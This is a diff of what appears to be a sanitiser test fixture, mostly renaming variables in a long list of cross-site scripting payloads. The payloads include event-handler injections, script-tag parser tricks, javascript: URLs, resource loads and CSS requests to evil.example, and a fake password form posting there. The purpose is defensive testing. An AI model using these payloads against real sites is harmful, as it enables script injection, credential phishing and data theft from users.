@@ -3,7 +3,7 @@
  * `window.ran` or request something from `evil.example`.
  */
 const RUN = 'window.ran=1';
-const EVIL = 'https://evil.example';
+const EVIL_HOST = 'https://evil.example';
 
 const ELEMENTS = [
   'p',
@@ -21,20 +21,25 @@ const ELEMENTS = [
   'button',
 ];
 const EVENTS = [
-  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'],
-  ...[
-    'onpointerenter',
-    'onbeforematch',
-    'oncontentvisibilityautostatechange',
-    'onscrollend',
-    'ONERROR',
-    'oNlOaD',
-  ],
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onbegin',
+  'onpointerenter',
+  'onbeforematch',
+  'oncontentvisibilityautostatechange',
+  'onscrollend',
+  'ONERROR',
+  'oNlOaD',
 ];
 
 /** Event handlers in all spellings. */
 const handlers = ELEMENTS.flatMap((element, index) =>
-  EVENTS.filter((_, place) => (place + index) % 2 === 0).map(
+  EVENTS.filter((_, position) => (position + index) % 2 === 0).map(
     (event) => `<${element} src=x tabindex=0 autofocus open ${event}="${RUN}">text</${element}>`,
   ),
 );
@@ -57,14 +62,14 @@ const brokenHandlers = [
 const scripts = [
   `<script>${RUN}</script>`,
   `<SCRIPT>${RUN}</SCRIPT>`,
-  `<script src="${EVIL}/a.js"></script>`,
+  `<script src="${EVIL_HOST}/a.js"></script>`,
   `<script/x>${RUN}</script>`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
   `<<script>${RUN}//<</script>`,
   `<script\u0000>${RUN}</script>`,
-  `<script type=module>import "${EVIL}/a.js"</script>`,
+  `<script type=module>import "${EVIL_HOST}/a.js"</script>`,
   `<svg><script>${RUN}</script></svg>`,
-  `<svg><script href="${EVIL}/a.js"/></svg>`,
+  `<svg><script href="${EVIL_HOST}/a.js"/></svg>`,
   `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
   `<math><script>${RUN}</script></math>`,
   `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
@@ -105,7 +110,7 @@ const SCHEMES = [
   `data:image/svg+xml,<svg onload=${RUN}>`,
   `blob:https://bank.example/x`,
   `file:///etc/passwd`,
-  `view-source:${EVIL}`,
+  `view-source:${EVIL_HOST}`,
   `//evil.example/x`,
   `\\\\evil.example\\x`,
   `https:\\\\evil.example`,
@@ -116,7 +121,7 @@ const SCHEMES = [
   `mailto:a@bank.example\njavascript:${RUN}`,
   `tel:${RUN}`,
 ];
-const HOLDERS: readonly ((address: string) => string)[] = [
+const WRAPPERS: readonly ((address: string) => string)[] = [
   (address) => `<a href="${address}">text</a>`,
   (address) => `<a href='${address}'>text</a>`,
   (address) => `<svg><a xlink:href="${address}"><text>text</text></a></svg>`,
@@ -124,45 +129,47 @@ const HOLDERS: readonly ((address: string) => string)[] = [
   (address) => `<iframe src="${address}"></iframe>`,
 ];
 const addresses = SCHEMES.flatMap((address, index) =>
-  HOLDERS.filter((_, place) => place === 0 || (place + index) % 2 === 0).map((hold) => hold(address)),
+  WRAPPERS.filter((_, position) => position === 0 || (position + index) % 2 === 0).map((wrap) =>
+    wrap(address),
+  ),
 );
 
 /** Elements that load without interaction. */
 const loads = [
   ...['img', 'video', 'audio', 'iframe', 'embed', 'source', 'track', 'input type=image'].map(
-    (tag) => `<${tag} src="${EVIL}/x">`,
+    (tag) => `<${tag} src="${EVIL_HOST}/x">`,
   ),
-  `<img srcset="${EVIL}/x 1x">`,
-  `<picture><source srcset="${EVIL}/x"><img></picture>`,
-  `<video poster="${EVIL}/x"></video>`,
-  `<object data="${EVIL}/x"></object>`,
-  `<link rel=stylesheet href="${EVIL}/x.css">`,
-  `<link rel=preload as=image href="${EVIL}/x">`,
+  `<img srcset="${EVIL_HOST}/x 1x">`,
+  `<picture><source srcset="${EVIL_HOST}/x"><img></picture>`,
+  `<video poster="${EVIL_HOST}/x"></video>`,
+  `<object data="${EVIL_HOST}/x"></object>`,
+  `<link rel=stylesheet href="${EVIL_HOST}/x.css">`,
+  `<link rel=preload as=image href="${EVIL_HOST}/x">`,
   `<link rel=dns-prefetch href="//evil.example">`,
-  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
+  `<meta http-equiv=refresh content="0;url=${EVIL_HOST}">`,
   `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
   `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
-  `<base href="${EVIL}/"><a href="page:help">text</a>`,
+  `<base href="${EVIL_HOST}/"><a href="page:help">text</a>`,
   `<base target=_top>`,
-  `<body background="${EVIL}/x">text</body>`,
-  `<table background="${EVIL}/x"><tr><td background="${EVIL}/y">text</td></tr></table>`,
-  `<style>@import "${EVIL}/x.css";</style>`,
-  `<style>body{background:url(${EVIL}/x)}</style>`,
-  `<p style="background:url(${EVIL}/x)">text</p>`,
-  `<p style="background-image:\\75rl(${EVIL}/x)">text</p>`,
-  `<p style="behavior:url(${EVIL}/x);-moz-binding:url(${EVIL}/x)">text</p>`,
+  `<body background="${EVIL_HOST}/x">text</body>`,
+  `<table background="${EVIL_HOST}/x"><tr><td background="${EVIL_HOST}/y">text</td></tr></table>`,
+  `<style>@import "${EVIL_HOST}/x.css";</style>`,
+  `<style>body{background:url(${EVIL_HOST}/x)}</style>`,
+  `<p style="background:url(${EVIL_HOST}/x)">text</p>`,
+  `<p style="background-image:\\75rl(${EVIL_HOST}/x)">text</p>`,
+  `<p style="behavior:url(${EVIL_HOST}/x);-moz-binding:url(${EVIL_HOST}/x)">text</p>`,
   `<p style="width:expression(${RUN})">text</p>`,
-  `<svg><image href="${EVIL}/x"/></svg>`,
-  `<svg><use href="${EVIL}/x#y"/></svg>`,
-  `<svg><feImage href="${EVIL}/x"/></svg>`,
-  `<svg><foreignObject><img src="${EVIL}/x"></foreignObject></svg>`,
+  `<svg><image href="${EVIL_HOST}/x"/></svg>`,
+  `<svg><use href="${EVIL_HOST}/x#y"/></svg>`,
+  `<svg><feImage href="${EVIL_HOST}/x"/></svg>`,
+  `<svg><foreignObject><img src="${EVIL_HOST}/x"></foreignObject></svg>`,
   `<math href="javascript:${RUN}">text</math>`,
-  `<a ping="${EVIL}/x" href="https://bank.example">text</a>`,
-  `<a href="https://bank.example" target=_blank rel=opener download attributionsrc="${EVIL}">text</a>`,
-  `<script nomodule src="${EVIL}/x.js"></script>`,
-  `<frameset><frame src="${EVIL}"></frameset>`,
-  `<portal src="${EVIL}"></portal>`,
-  `<html manifest="${EVIL}/x"><p>text</p></html>`,
+  `<a ping="${EVIL_HOST}/x" href="https://bank.example">text</a>`,
+  `<a href="https://bank.example" target=_blank rel=opener download attributionsrc="${EVIL_HOST}">text</a>`,
+  `<script nomodule src="${EVIL_HOST}/x.js"></script>`,
+  `<frameset><frame src="${EVIL_HOST}"></frameset>`,
+  `<portal src="${EVIL_HOST}"></portal>`,
+  `<html manifest="${EVIL_HOST}/x"><p>text</p></html>`,
 ];
 
 /** Markup that parsers interpret differently. */
@@ -207,7 +214,7 @@ const mutations = [
 
 /** Elements that imitate the portal or take over its names. */
 const disguises = [
-  `<form action="${EVIL}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
+  `<form action="${EVIL_HOST}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
   `<input form=x name=password type=password>`,
   `<button formaction="javascript:${RUN}">text</button>`,
   `<a id=root name=root href="https://bank.example">text</a>`,
@@ -220,8 +227,8 @@ const disguises = [
   `<div slot=x is=x-foo><slot></slot></div>`,
   `<p shadowrootmode=open><template shadowrootmode=open><script>${RUN}</script></template></p>`,
   `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
-  `<applet code=x archive="${EVIL}"></applet>`,
-  `<isindex action="${EVIL}" prompt=text>`,
+  `<applet code=x archive="${EVIL_HOST}"></applet>`,
+  `<isindex action="${EVIL_HOST}" prompt=text>`,
   `<keygen name=x onfocus=${RUN} autofocus>`,
   `<svg><animate attributeName=href values="javascript:${RUN}" /></svg>`,
   `<svg><a><animate attributeName=href to="javascript:${RUN}"/><text>text</text></a></svg>`,
